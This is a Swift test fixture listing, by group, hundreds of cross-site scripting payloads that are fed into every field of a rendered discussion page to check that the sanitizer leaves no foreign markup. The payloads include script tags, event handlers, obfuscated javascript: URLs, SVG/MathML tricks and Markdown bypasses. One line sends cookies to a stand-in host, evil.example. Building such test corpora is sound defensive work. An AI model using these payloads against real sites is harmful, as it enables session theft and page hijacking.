/// Hostile payloads, by group: each goes into every field a page shows (Markdown body, HTML body,
/// author, title, flair, id, URL) and the page must come out with no markup but Threadfold's own.
enum HostileCorpus {
    struct Payload: Sendable, CustomStringConvertible {
        let group: String
        let index: Int
        let text: String
        var description: String {
            let shown = text.unicodeScalars.prefix(48).map { $0.value < 0x20 || $0.value == 0x7F ? "\\u{\(String($0.value, radix: 16))}" : String($0) }.joined()
            return "\(group) #\(index): \(shown)"
        }
    }

    static let scripts = [
        "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<script src=//evil.example/x.js></script>",
        "<script>/*</script>*/alert(1)</script>", "<scr<script>ipt>alert(1)</script>", "<<script>alert(1)//<</script>",
        "<script\n>alert(1)</script\n>", "<script type=module>import('//evil.example')</script>", "<ScRiPt>alert`1`</ScRiPt>",
        "</script><script>alert(1)</script>", "<script>alert(1)", "<script/src=data:,alert(1)></script>",
        "<script>document.location='//evil.example/?'+document.cookie</script>", "<script>fetch('/')</script>",
        "<script>print()</script>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<script>window.open('//evil.example')</script>", "<script defer>alert(1)</script>", "<script async>alert(1)</script>",
        "<script>eval(atob('YWxlcnQoMSk='))</script>",
    ]
    static let eventHandlers = [
        "<img src=x onerror=alert(1)>", "<img/src/onerror=alert(1)>", "<svg onload=alert(1)>", "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>", "<div onmouseover=alert(1)>hover</div>",
        "<a onclick=alert(1)>click</a>", "<p onpointerenter=alert(1)>p</p>", "<iframe onload=alert(1)>", "<object onerror=alert(1)>",
        "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>", "<keygen autofocus onfocus=alert(1)>",
        "<form><button formaction=javascript:alert(1)>x</button></form>", "<isindex action=javascript:alert(1) type=submit>",
        "<img src=x:alert(1) onerror=eval(src)>", "<img src=\"x\" onerror=\"alert(1)\"/>", "<img src='x' onerror='alert(1)'>",
        "<img src=`x` onerror=`alert(1)`>", "<b onmouseover=alert(1)>b</b>", "<table background=javascript:alert(1)>",
        "<style onload=alert(1)></style>", "<link rel=stylesheet href=x onerror=alert(1)>", "<body onpageshow=alert(1)>",
        "<x onclick=alert(1)>x</x>", "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    ]
    static let javascriptURLs: [String] = {
        let spellings = [
            "javascript:alert(1)", "JAVASCRIPT:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\tjavascript:alert(1)",
            "java\tscript:alert(1)", "java\nscript:alert(1)", "java\rscript:alert(1)", "\u{1}javascript:alert(1)",
            "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "&#0000106avascript:alert(1)", "javascript&colon;alert(1)",
            "javascript&#58;alert(1)", "javascript&#x3A;alert(1)", "jav&#x09;ascript:alert(1)", "jav&#x0A;ascript:alert(1)",
            "javascript%3Aalert(1)", "%6Aavascript:alert(1)", "javascript://%0Aalert(1)", "javascript:/**/alert(1)",
            "javascript:void(0);alert(1)", "  \t javascript:alert(1)", "javascript :alert(1)", "javascript\u{0}:alert(1)",
        ]
        return spellings.flatMap { ["[click](\($0))", "<a href=\"\($0)\">click</a>", "<\($0)>"] }
    }()
    static let otherSchemes = [
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "![x](data:image/svg+xml,<svg onload=alert(1)>)", "[x](vbscript:msgbox(1))", "<a href=\"vbscript:msgbox(1)\">x</a>",
        "[x](file:///etc/passwd)", "[x](livescript:alert(1))", "[x](mocha:alert(1))", "[x](feed:javascript:alert(1))",
        "[x](view-source:javascript:alert(1))", "[x](jar:http://evil.example!/)", "[x](ms-its:x)", "[x](blob:https://evil.example/x)",
        "[x](filesystem:https://evil.example/x)", "![x](javascript:alert(1))", "<img src=\"javascript:alert(1)\">",
        "![x](//evil.example/track.png)", "[x](ftp://evil.example/)", "<a href=\"intent://x#Intent;end\">x</a>", "[x](tel:+1;alert(1))",
    ]
    static let attributeBreakers = [
        "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "`><script>alert(1)</script>",
        "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "\" autofocus onfocus=\"alert(1)", "\"/><svg onload=alert(1)>",
        "\"; alert(1); \"", "';alert(1);'", "\" style=\"background:url(javascript:alert(1))", "x\" href=\"javascript:alert(1)",
        "\u{0}\"><script>alert(1)</script>", "\"\n onclick=\"alert(1)", "\"><!--", "--><script>alert(1)</script>",
    ]
    static let structureBreakers = [
        "</details>", "</summary>", "</details></li></ol><script>alert(1)</script>", "</summary><p>fake</p><summary>",
        "</article></li></ol></main><script>alert(1)</script>", "</bdi><script>alert(1)</script>", "</time><script>alert(1)</script>",
        "</title><script>alert(1)</script>", "</style><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
        "<details open><summary>injected</summary>", "<summary>x</summary>", "</html><script>alert(1)</script>",
        "<!DOCTYPE html><html><head><script>alert(1)</script>", "</head><body onload=alert(1)>",
    ]
    static let svgAndMath = [
        "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><set attributeName=href to=javascript:alert(1)>",
        "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\">",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "<svg/onload=alert(1)>", "<svg><style>@import 'javascript:alert(1)'</style></svg>", "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
        "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert(1)></annotation-xml></math>",
        "<svg><title><img src=x onerror=alert(1)></title></svg>", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script href=\"data:,alert(1)\"/></svg>",
        "<svg><image href=x onerror=alert(1)>",
    ]
    static let encodings = [
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3C;script&#x3E;alert(1)",
        "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)", "\u{FF1C}script\u{FF1E}alert(1)", "<\u{0}script>alert(1)",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "&lt;img src=x onerror=alert(1)&gt;", "&amp;lt;script&amp;gt;",
        "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>", "%253Cscript%253E", "<img src=x o&#110;error=alert(1)>", "<a h&#114;ef=javascript:alert(1)>x</a>",
        "\u{202E}>tpircs/<)1(trela>tpircs<",
    ]
    static let embedding = [
        "<iframe src=\"https://evil.example\"></iframe>", "<iframe srcdoc=\"<script>alert(1)</script>\">", "<object data=\"javascript:alert(1)\">",
        "<embed src=\"javascript:alert(1)\">", "<base href=\"javascript:alert(1)//\">", "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
        "<form action=\"javascript:alert(1)\"><input type=submit></form>", "<link rel=import href=\"//evil.example\">", "<frameset onload=alert(1)>",
        "<applet code=x>", "<portal src=\"//evil.example\">", "<dialog open>fake dialog</dialog>", "<template><script>alert(1)</script></template>",
        "<xmp><script>alert(1)</script></xmp>", "<plaintext><script>alert(1)</script>",
    ]
    static let styles = [
        "<style>*{display:none}</style>", "<p style=\"background:url(javascript:alert(1))\">x</p>", "<div style=\"behavior:url(x.htc)\">",
        "<style>@import 'https://evil.example/x.css';</style>", "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%\">overlay</p>",
        "<link rel=stylesheet href=\"https://evil.example/x.css\">", "<style>body{background:url(\"javascript:alert(1)\")}</style>",
        "<div style=\"x:expression(alert(1))\">", "<span style=\"-moz-binding:url(x)\">", "<font color=red face=x>f</font>",
    ]
    static let markdownTricks = [
        "[a]: javascript:alert(1)\n\n[click][a]", "[click][x]\n\n[x]: <javascript:alert(1)>", "<javascript:alert(1)>",
        "![<img src=x onerror=alert(1)>](https://ok.example/i.png)", "[<script>alert(1)</script>](https://ok.example)",
        "[x](https://ok.example \"\\\"><script>alert(1)</script>\")", "```html\n<script>alert(1)</script>\n```",
        "`<script>alert(1)</script>`", "    <script>alert(1)</script>", "<div>\n<script>alert(1)</script>\n</div>",
        "<!-- <script>alert(1)</script> -->", "<?php echo 1 ?>", "<![CDATA[<script>alert(1)</script>]]>",
        "[x](<javascript:alert(1)>)", "[x]( javascript:alert(1) )", "*<script>*alert(1)*</script>*",
        "> <script>alert(1)</script>", "- <img src=x onerror=alert(1)>", "# <svg onload=alert(1)>", "[![x](javascript:alert(1))](javascript:alert(1))",
        "&#x3C;script&#x3E;", "<details open ontoggle=alert(1)><summary>x</summary></details>", "\\<script>alert(1)\\</script>",
        "[x](#\"onmouseover=\"alert(1))", "[x](https://ok.example/\"onmouseover=\"alert(1))",
    ]

    /// GFM's and Reddit's extensions, which Threadfold builds on cmark's tree.
    static let extensionTricks = [
        "| [x](javascript:alert(1)) | <script>alert(1)</script> |\n|---|---|\n| <img src=x onerror=alert(1)> | \\| \"><script>alert(1)</script> |",
        "| a |\n|---|\n| [x][r] |\n\n[r]: javascript:alert(1)", "- [x] <img src=x onerror=alert(1)>\n- [ ] [x](javascript:alert(1))",
        ">!<script>alert(1)</script>!<", ">![x](javascript:alert(1))!<", "^(<img src=x onerror=alert(1)>)", "^<svg/onload=alert(1)>",
        "~~<script>alert(1)</script>~~", "r/\"onmouseover=alert(1) u/a\"b\"c", "www.ok.example/\"onmouseover=\"alert(1)",
        "https://ok.example/<script>alert(1)</script>", "| `<script>` | ~~**<b>**~~ |\n| :-: | --: |",
    ]

    static let groups: [(String, [String])] = [
        ("script tags", scripts), ("event handlers", eventHandlers), ("javascript: URLs", javascriptURLs),
        ("other schemes", otherSchemes), ("attribute breakers", attributeBreakers), ("structure breakers", structureBreakers),
        ("SVG and MathML", svgAndMath), ("encodings", encodings), ("embedding", embedding), ("styles", styles),
        ("Markdown tricks", markdownTricks), ("Markdown extensions", extensionTricks),
    ]

    static let all: [Payload] = groups.flatMap { group, texts in
        texts.enumerated().map { Payload(group: group, index: $0 + 1, text: $1) }
    }
}
